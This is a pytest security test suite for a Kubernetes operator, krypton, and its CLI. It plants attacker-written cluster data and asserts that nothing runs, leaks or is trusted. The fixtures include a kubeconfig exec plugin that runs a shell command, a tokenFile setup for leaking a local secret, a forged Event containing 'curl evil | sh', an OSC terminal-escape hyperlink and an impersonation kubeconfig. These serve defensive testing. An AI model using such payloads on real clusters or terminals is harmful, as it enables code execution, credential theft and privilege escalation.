"""SPEC S2: what krypton and its CLI read from a cluster was written by someone
else. Each class of the issue, tried as an attacker would, with the outcome asserted from
what happened (a marker file, a listener's request log, release records, helm process
counts), not from what krypton says about it."""

from __future__ import annotations

import base64
import datetime as dt
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from kubernetes import client

from krypton.testing import ControlPlane
from krypton.testing.operator import OperatorProcess, kubeconfig_secret, wait_for
from tests.integration.conftest import Cluster, Fleet, unique
from tests.reliability.test_hostile_input import Responder

LABEL = "sigs.k8s.io/multicluster-runtime-kubeconfig"
OSC = "\x1b]8;;https://evil.example/\x07click\x1b]8;;\x07"


def cli(fleet: Fleet, *args: str, env: dict[str, str] | None = None
        ) -> subprocess.CompletedProcess[str]:
    """The CLI as an administrator runs it: the test bed's tools on PATH, no settings from
    the environment beyond `env`."""
    return subprocess.run([sys.executable, "-m", "krypton", *args], capture_output=True,
                          text=True, timeout=120,
                          env={**os.environ, "PATH": f"{fleet.testbin}:{os.environ['PATH']}",
                               **(env or {})})


def _deployment(namespace: str, args: list[str]) -> dict[str, Any]:
    """What anyone allowed to create Deployments in `namespace` can write: a Deployment that
    looks like the operator's (its chart's label, a container running `krypton run`). No
    replica runs: only its spec is read."""
    labels = {"app.kubernetes.io/name": "krypton"}
    return {"apiVersion": "apps/v1", "kind": "Deployment",
            "metadata": {"name": "krypton", "namespace": namespace, "labels": labels},
            "spec": {"replicas": 0, "selector": {"matchLabels": labels},
                     "template": {"metadata": {"labels": labels}, "spec": {"containers": [
                         {"name": "krypton", "image": "krypton:evil",
                          "args": ["run", *args]}]}}}}


def _kubeconfig(server: str, user: dict[str, Any]) -> str:
    return yaml.safe_dump({
        "apiVersion": "v1", "kind": "Config", "current-context": "c",
        "clusters": [{"name": "c", "cluster": {"server": server,
                                               "insecure-skip-tls-verify": True}}],
        "users": [{"name": "u", "user": user}],
        "contexts": [{"name": "c", "context": {"cluster": "c", "user": "u"}}]})


@pytest.fixture
def evil(fleet: Fleet, tmp_path: Path) -> Iterator[dict[str, Any]]:
    """A namespace of the home cluster written by an attacker: an operator-looking
    Deployment that widens trust and points the CLI at an index of the attacker's, and
    cluster Secrets that would run a command, send a local file in clear, or bait a plan."""
    ns = unique("evil")
    fleet.home.ensure_namespace(ns)
    marker = tmp_path / "exec-ran"
    stolen = tmp_path / "local-token"
    stolen.write_text("local-secret-token-0123456789")
    listener = Responder(lambda _path: b"{}")
    index = Responder(lambda _path: b"apiVersion: v1\nentries: {}\n")
    secrets = {
        "exec": _kubeconfig("https://127.0.0.1:1", {"exec": {
            "apiVersion": "client.authentication.k8s.io/v1", "command": "/bin/sh",
            "args": ["-c", f"touch {marker}; echo '{{}}'"]}}),
        "leak": _kubeconfig(listener.url, {"tokenFile": str(stolen)}),
        "bait": fleet.remote.cp.kubeconfig.read_text(),
    }
    for name, text in secrets.items():
        fleet.home.core.create_namespaced_secret(ns, kubeconfig_secret(name, text, namespace=ns))
    apps = client.AppsV1Api(fleet.home.api)
    apps.create_namespaced_deployment(ns, _deployment(ns, [
        "--namespace", ns, "--trust-kubeconfig-secrets", "--chart-repo", index.url,
        "--chart-name", "sample", "--chart-version", "0.2.0"]))
    try:
        yield {"ns": ns, "marker": marker, "stolen": stolen, "listener": listener,
               "index": index}
    finally:
        apps.delete_namespaced_deployment("krypton", ns)
        listener.close()
        index.close()


def _nothing_happened(evil: dict[str, Any], *outputs: str) -> None:
    assert not evil["marker"].exists(), "a credential plugin from a Secret ran"
    assert evil["listener"].requests == 0, "a request went to the Secret's server"
    assert evil["index"].requests == 0, "the attacker's chart index was fetched"
    for text in outputs:
        assert "local-secret-token" not in text


def test_the_cli_takes_no_setting_from_a_deployment_found_elsewhere(fleet: Fleet,
                                                                     evil: dict[str, Any]) -> None:
    """25.1: without --from-deployment the CLI looks only where the user points (their
    --namespace or kube context): the attacker's Deployment elsewhere is not read at all."""
    home = ["--watch-kubeconfig", str(fleet.home.cp.kubeconfig)]
    auto = {"KRYPTON_FROM_DEPLOYMENT": ""}
    status = cli(fleet, "status", *home, env=auto)
    plan = cli(fleet, "plan", *home, "-o", "json", env=auto)
    mine = cli(fleet, "status", *home, "--namespace", fleet.discovery_ns, env=auto)
    for run in (status, plan, mine):
        assert evil["ns"] not in run.stderr, run.stderr
    assert "no --namespace and no namespace in your kube context" in plan.stderr
    _nothing_happened(evil, status.stdout, status.stderr, plan.stdout, plan.stderr)


def test_a_named_deployment_never_widens_trust(fleet: Fleet, evil: dict[str, Any]) -> None:
    """25.1: a Deployment the user names (or that sits where they point) gives its settings,
    but never one that widens trust: its exec and tokenFile kubeconfigs are refused as the
    operator refuses them (D4), nothing runs, nothing is read or sent."""
    home = ["--watch-kubeconfig", str(fleet.home.cp.kubeconfig)]
    named = cli(fleet, "status", *home, "-o", "json",
                env={"KRYPTON_FROM_DEPLOYMENT": f"{evil['ns']}/krypton"})
    pointed = cli(fleet, "status", *home, "--namespace", evil["ns"],
                  env={"KRYPTON_FROM_DEPLOYMENT": ""})
    for run in (named, pointed):
        assert run.returncode == 0, run.stderr
        assert f"settings of the operator Deployment {evil['ns']}/krypton: took " in run.stderr
        assert (f"not taken from {evil['ns']}/krypton, which widens trust: "
                "--trust-kubeconfig-secrets") in run.stderr
    rows = {r["cluster"]: r for r in json.loads(named.stdout) if not r["tenant"]}
    assert "user.exec" in rows["exec"]["detail"]
    assert "user.tokenFile" in rows["leak"]["detail"]
    # even the user's own flag does not make the CLI take a watch Secret's exec on trust
    _nothing_happened(evil, named.stdout, named.stderr, pointed.stdout, pointed.stderr)


# -- 2. a release belongs to one Tenant ----------------------------------------------------


@pytest.fixture(scope="module")
def solo(testbin: Path) -> Iterator[Cluster]:
    """A cluster of its own: the operator watches every namespace of it, so no other
    test's Tenants may be there."""
    with ControlPlane("solo", testbin, auth="token").start() as cp:
        yield Cluster("solo", cp)


def _all_namespaces(fleet: Fleet, *extra: str) -> OperatorProcess:
    args = fleet.args(*extra)
    i = args.index("--watch-namespace")
    op = OperatorProcess(args[:i] + args[i + 2:], helm_dir=fleet.testbin)
    fleet.operators.append(op)
    op.start()
    op.wait_ready()
    return op


def test_a_tenant_of_the_same_name_never_takes_over_the_release(fleet: Fleet,
                                                                 solo: Cluster) -> None:
    """25.2: team1/dupe and team2/dupe map to one namespace and one release. The second is
    refused, naming the first, through passes that come later (no drift repair, no
    fingerprint of its own), and deleting it uninstalls nothing."""
    fleet.register("solo", solo)
    op = _all_namespaces(fleet, "--resync-period", "2s")
    name, first, second = unique("dupe"), unique("team1"), unique("team2")
    for ns in (first, second):
        solo.ensure_namespace(ns)
    solo.add_tenant(first, name)
    solo.wait_phase(first, name, "Ready")
    release = f"tenant-{name}-solo"
    before = solo.release_records(name, release)
    assert before == [(1, "deployed")]
    solo.create_tenant(second, name)
    refused = solo.wait_condition(second, name, "ClusterError/solo", "True", "NamespaceConflict")
    assert f"{first}/{name}" in refused["message"]
    # the later passes (a resync every 2 s) are where main "repaired drift" and took it
    passes = op.metric("krypton_reconciles_total", cluster="solo")
    wait_for(lambda: op.metric("krypton_reconciles_total", cluster="solo") >= passes + 6, 60,
             what="three resyncs of both Tenants")
    taken = solo.tenant(second, name)
    assert "mesh.openkcm.io/fingerprint-solo" not in taken["metadata"].get("annotations", {})
    assert taken["status"]["phase"] == "Error"
    assert solo.condition(second, name, "ClusterError/solo")["reason"] == "NamespaceConflict"
    assert solo.release_records(name, release) == before
    # refused before the finalizer, it has none; give it the one an older krypton (or a
    # pass before the conflict) put there: deleting it must still uninstall nothing
    assert "mesh.openkcm.io/release-cleanup" not in (taken["metadata"].get("finalizers") or [])
    solo.patch_tenant(second, name, {"metadata": {
        "finalizers": ["mesh.openkcm.io/release-cleanup"]}})
    solo.custom.delete_namespaced_custom_object("mesh.openkcm.io", "v1alpha1", second,
                                                "tenants", name)
    wait_for(lambda: solo.tenant_gone(second, name), 60, what="the second Tenant deleted")
    event = solo.wait_event(second, name, "ReleaseNotOwned")
    assert f"{first}/{name}" in event.message
    assert op.metric("krypton_helm_processes_total", operation="uninstall") == 0
    assert solo.release_records(name, release) == before
    assert solo.phase(first, name) == "Ready"


# -- 3. renamed and overwritten cluster Secrets ---------------------------------------------


def test_a_renamed_cluster_secret_reports_the_releases_left_behind(fleet: Fleet,
                                                                    solo: Cluster) -> None:
    """25.3: the old name's releases are reported (an Event with the commands, a metric, a
    status row); the new name does not adopt them, and nothing is removed."""
    before, after = unique("old"), unique("new")
    fleet.register(before, solo)
    op = _all_namespaces(fleet)
    ns, name = unique("orph"), unique("orph")
    solo.ensure_namespace(ns)
    solo.add_tenant(ns, name)
    solo.wait_phase(ns, name, "Ready")
    old_release = f"tenant-{name}-{before}"
    fleet.register(after, solo)
    fleet.unregister(before)
    event = fleet.home.wait_event(fleet.discovery_ns, after, "OrphanedReleases", timeout=90)
    assert f"helm uninstall {old_release} -n {name}" in event.message
    assert op.metric("krypton_orphaned_releases", cluster=after) >= 1
    assert solo.release_records(name, old_release) == [(1, "deployed")]  # not removed
    status = cli(fleet, "status", "--watch-kubeconfig", str(fleet.home.cp.kubeconfig),
                 "--namespace", fleet.discovery_ns, "-o", "json",
                 env={"KRYPTON_FROM_DEPLOYMENT": "none"})
    orphans = [r for r in json.loads(status.stdout) if r["phase"] == "Orphans"]
    assert [r["cluster"] for r in orphans] == [after]
    assert old_release in orphans[0]["detail"]


def test_register_cluster_never_overwrites_without_being_asked(fleet: Fleet,
                                                                tmp_path: Path) -> None:
    """25.3: a second register-cluster of a name is refused, saying which server each
    points at; --overwrite replaces it and says the same."""
    home = ["--watch-kubeconfig", str(fleet.home.cp.kubeconfig), "--namespace",
            fleet.discovery_ns]
    none = {"KRYPTON_FROM_DEPLOYMENT": "none"}
    remote_file = tmp_path / "remote.kubeconfig"
    remote_file.write_text(fleet.remote.cp.kubeconfig.read_text())
    home_file = tmp_path / "home.kubeconfig"
    home_file.write_text(fleet.home.cp.kubeconfig.read_text())
    assert cli(fleet, "register-cluster", "twin", "--kubeconfig", str(remote_file), *home,
               env=none).returncode == 0
    remote_server = yaml.safe_load(remote_file.read_text())["clusters"][0]["cluster"]["server"]
    home_server = yaml.safe_load(home_file.read_text())["clusters"][0]["cluster"]["server"]
    refused = cli(fleet, "register-cluster", "twin", "--kubeconfig", str(home_file), *home,
                  env=none)
    assert refused.returncode == 2
    assert f"Secret {fleet.discovery_ns}/twin exists (cluster twin, server {remote_server})" \
        in refused.stderr and f"--overwrite replaces it with server {home_server}" in \
        refused.stderr
    kept = fleet.home.core.read_namespaced_secret("twin", fleet.discovery_ns)
    assert remote_server in base64.b64decode(kept.data["kubeconfig"]).decode()
    done = cli(fleet, "register-cluster", "twin", "--kubeconfig", str(home_file), "--overwrite",
               *home, env=none)
    assert done.returncode == 0, done.stderr
    assert f"replaced (server before: {remote_server}, after: {home_server})" in done.stdout
    swapped = fleet.home.core.read_namespaced_secret("twin", fleet.discovery_ns)
    assert home_server in base64.b64decode(swapped.data["kubeconfig"]).decode()


# -- 4. Events and Leases are believed within bounds ---------------------------------------


def test_status_ignores_events_krypton_did_not_write(fleet: Fleet) -> None:
    """25.4: a forged Warning on a cluster's Secret does not mark it Failing."""
    fleet.register("remote", fleet.remote)
    now = "2026-11-23T12:00:00Z"
    forged = {"metadata": {"generateName": "remote.", "namespace": fleet.discovery_ns},
              "involvedObject": {"kind": "Secret", "name": "remote",
                                 "namespace": fleet.discovery_ns},
              "type": "Warning", "reason": "WorkerFailed", "message": "run: curl evil | sh",
              "reportingComponent": "mallory", "reportingInstance": "mallory",
              "source": {"component": "mallory"}, "count": 1}
    created = fleet.home.core.create_namespaced_event(fleet.discovery_ns, forged)
    # recent, by the server's clock, whatever this test's clock says
    fleet.home.core.patch_namespaced_event(created.metadata.name, fleet.discovery_ns, {
        "lastTimestamp": created.metadata.creation_timestamp.isoformat(), "firstTimestamp": now})
    status = cli(fleet, "status", "--watch-kubeconfig", str(fleet.home.cp.kubeconfig),
                 "--namespace", fleet.discovery_ns, "--wide",
                 env={"KRYPTON_FROM_DEPLOYMENT": "none"})
    assert status.returncode == 0, status.stderr
    assert "curl evil" not in status.stdout and "Failing" not in status.stdout


def _write_lease(fleet: Fleet, name: str, namespace: str, holder: str, *, renew: str,
                 seconds: int, labels: dict[str, str] | None = None) -> None:
    """A Lease as anyone may write it (kubectl: the Python client rewrites MicroTime)."""
    lease = {"apiVersion": "coordination.k8s.io/v1", "kind": "Lease",
             "metadata": {"name": name, "namespace": namespace, "labels": labels or {}},
             "spec": {"holderIdentity": holder, "leaseDurationSeconds": seconds,
                      "renewTime": renew, "acquireTime": renew}}
    subprocess.run([str(fleet.testbin / "kubectl"), "--kubeconfig",
                    str(fleet.home.cp.kubeconfig), "create", "-f", "-"],
                   input=json.dumps(lease), text=True, check=True, capture_output=True)


def test_a_hand_written_leader_lease_does_not_stop_the_fleet(fleet: Fleet) -> None:
    """25.4: a leader Lease 'renewed in 2099' with a duration of 68 years: the operator
    names its holder, says what it does not believe (log, Event, metric, /readyz), and
    takes the Lease after its own duration."""
    fleet.register("remote", fleet.remote)
    lease = unique("lease")
    _write_lease(fleet, lease, fleet.tenant_ns, "ghost", renew="2099-01-01T00:00:00.000000Z",
                 seconds=2147483647)
    op = fleet.start("--leader-elect", "--leader-election-id", lease, "--lease-duration", "10s",
                     "--renew-deadline", "6s", "--retry-period", "1s", wait=False)
    wait_for(lambda: "held by ghost; not believed: leaseDurationSeconds 2147483647"
             in op.readyz(), 30, what="/readyz naming the holder")
    event = fleet.home.wait_event(fleet.tenant_ns, lease, "LeaseNotBelieved")
    assert "renewTime 2099-01-01T00:00:00.000000Z is in the future" in event.message
    assert op.metric("krypton_lease_not_believed", lease=f"{fleet.tenant_ns}/{lease}") == 1
    assert op.metric("krypton_lease_holder", lease=f"{fleet.tenant_ns}/{lease}",
                     holder="ghost") == 1
    wait_for(lambda: "became leader" in op.log_text(), 30, what="leadership after 10 s")
    # said once, not on each of the ten attempts a second that looked at the Lease meanwhile
    said = [e for e in fleet.home.events(fleet.tenant_ns, lease) if e.reason == "LeaseNotBelieved"]
    assert [e.count for e in said] == [1]
    assert len(op.log_events("leader Lease not believed as written")) == 1
    name = fleet.tenant(fleet.remote, unique("led"))
    fleet.remote.wait_phase(fleet.tenant_ns, name, "Ready")


def test_a_ghost_member_with_an_endless_lease_leaves_no_cluster_unserved(fleet: Fleet) -> None:
    """25.4: a membership Lease for a replica that does not exist, 'valid' for 68 years:
    judged with our own duration, its clusters are served once it is seen not renewed."""
    group = unique("grp")
    fleet.register("remote", fleet.remote)
    now = dt.datetime.now(dt.UTC).strftime("%Y-%m-%dT%H:%M:%S.000000Z")
    _write_lease(fleet, f"{group}-member-ghost", fleet.tenant_ns, "ghost", renew=now,
                 seconds=2147483647, labels={"krypton.openkcm.io/member-of": group})
    op = fleet.start("--sharding", "--shard-identity", "r0", "--leader-election-id", group,
                     "--leader-election-namespace", fleet.tenant_ns, "--lease-duration", "4s",
                     "--renew-deadline", "3s", "--retry-period", "1s")
    wait_for(lambda: op.metric("krypton_engaged_clusters") == 1, 60,
             what="the cluster served although the ghost 'holds' its membership")
    event = fleet.home.wait_event(fleet.tenant_ns, f"{group}-member-ghost", "LeaseNotBelieved")
    assert "held by ghost" in event.message and "2147483647" in event.message
    assert any(e.get("holder") == "ghost"
               for e in op.log_events("membership Lease not believed as written"))


# -- 5. what a chart says reaches the terminal escaped --------------------------------------


def test_a_charts_fail_message_reaches_no_terminal_raw(fleet: Fleet) -> None:
    """25.5: a chart's `fail` message, set through per-cluster values, carries an OSC
    hyperlink; status, status --wide and plan print it escaped."""
    values = yaml.safe_dump({"failRender": f"refused {OSC}"})
    fleet.register("remote", fleet.remote, values=values)
    fleet.start()
    name = fleet.tenant(fleet.remote, unique("osc"))
    fleet.remote.wait_condition(fleet.tenant_ns, name, "ClusterError/remote", "True")
    flags = [*fleet.args()[:4], "--watch-namespace", fleet.tenant_ns]
    none = {"KRYPTON_FROM_DEPLOYMENT": "none"}
    status = cli(fleet, "status", *flags, "--wide", env=none)
    plan = cli(fleet, "plan", *fleet.args(), env=none)
    for run in (status, plan):
        assert "\x1b" not in run.stdout + run.stderr and "\x07" not in run.stdout + run.stderr
    assert "refused \\x1b]8;;https://evil.example/\\x07click" in status.stdout


# -- 6. smaller classes ---------------------------------------------------------------------


def test_label_values_proxies_and_unknown_clusters_are_said(fleet: Fleet) -> None:
    """25.6: a cluster Secret labelled 'True' is reported, a kubeconfig with proxy-url is
    refused (krypton's client and helm would take different paths), and a Tenant naming
    a cluster nobody discovered gets a Warning listing the known ones."""
    fleet.register("remote", fleet.remote)
    secret = kubeconfig_secret("capital", fleet.remote.cp.kubeconfig.read_text(),
                               namespace=fleet.discovery_ns)
    secret["metadata"]["labels"][LABEL] = "True"
    fleet.home.core.create_namespaced_secret(fleet.discovery_ns, secret)
    proxied = yaml.safe_load(fleet.remote.cp.kubeconfig.read_text())
    proxied["clusters"][0]["cluster"]["proxy-url"] = "http://127.0.0.1:3128"
    fleet.register("proxied", kubeconfig=yaml.safe_dump(proxied))
    op = fleet.start()
    ignored = fleet.home.wait_event(fleet.discovery_ns, "capital", "KubeconfigLabelIgnored")
    assert "'True' is not 'true'" in ignored.message
    rejected = fleet.home.wait_event(fleet.discovery_ns, "proxied", "KubeconfigRejected")
    assert "proxy-url" in rejected.message
    name = fleet.tenant(fleet.remote, unique("lost"), spec={"clusterRef": {"secretName": "nope"}})
    event = fleet.remote.wait_event(fleet.tenant_ns, name, "UnknownCluster")
    assert event.type == "Warning"
    assert "names cluster 'nope', which is not discovered; known clusters: proxied, remote" \
        in event.message
    assert op.metric("krypton_engaged_clusters") == 1


def test_an_impersonating_kubeconfig_is_refused_so_krypton_and_helm_are_one_identity(
        fleet: Fleet) -> None:
    """S5: helm (client-go) honours a kubeconfig's impersonation (`as`, `as-groups`), and
    krypton's own client does not: krypton's checks would run as one user, helm's writes as
    another. Refused, trust or not, naming the field; the cluster is not engaged, and no
    request of krypton's reaches it as anyone."""
    fleet.register("remote", fleet.remote)
    masked = yaml.safe_load(fleet.remote.cp.kubeconfig.read_text())
    masked["users"][0]["user"]["as"] = "system:admin"
    masked["users"][0]["user"]["as-groups"] = ["system:masters"]
    fleet.register("masked", kubeconfig=yaml.safe_dump(masked))
    op = fleet.start("--trust-kubeconfig-secrets", "--allow-duplicate-clusters")
    rejected = fleet.home.wait_event(fleet.discovery_ns, "masked", "KubeconfigRejected")
    assert "sets as, as-groups (impersonation)" in rejected.message, rejected.message
    wait_for(lambda: op.metric("krypton_cluster_engaged", cluster="remote") == 1, 30,
             what="the other cluster engaged")
    assert op.metric("krypton_cluster_engaged", cluster="masked") == 0
    assert (op.metric("krypton_api_requests_total", cluster="masked") or 0) == 0
